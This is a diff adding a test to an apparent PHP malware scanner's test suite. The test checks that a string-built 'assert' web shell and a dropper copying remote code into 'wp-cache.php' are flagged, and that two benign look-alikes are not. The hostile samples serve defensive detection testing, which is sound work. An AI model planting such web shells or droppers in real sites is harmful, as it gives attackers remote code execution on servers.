@@ -911,3 +911,16 @@ def test_listeners_defacements_and_curl_file_reads(eng):
             b"$ch = curl_init('https://example.org/feed');\n")
     assert not rules(eng.analyse(near, '/var/www/html/c.php')) & {
         'php.deface.index_overwrite', 'php.bypass.restrictions'}
+
+
+def test_name_built_with_append_and_dropper_writing_a_php_file(eng):
+    v = eng.analyse(b"<?php $e = $_POST['e']; $t = 'as'; $t .= 'sert'; $t($e);", '/var/www/html/a.php')
+    assert v.suspicious and 'php.call.computed_name' in rules(v), v
+    v = eng.analyse(b"<?php copy('http://198.51.100.4/x.txt', 'wp-cache.php');", '/var/www/html/d.php')
+    assert v.suspicious and 'php.dropper.remote_write' in rules(v), v
+    # near-misses: a string grown with .= for output, an updater saving a zip it fetched
+    near = b"<?php $html = '<ul>'; $html .= '<li>x</li>'; echo $html;"
+    assert not eng.analyse(near, '/var/www/html/l.php').suspicious
+    near = (b"<?php $zip = file_get_contents('https://downloads.example.org/plugin.zip');\n"
+            b"file_put_contents(WP_CONTENT_DIR . '/upgrade/plugin.zip', $zip);\n")
+    assert not eng.analyse(near, '/var/www/html/upd.php').suspicious
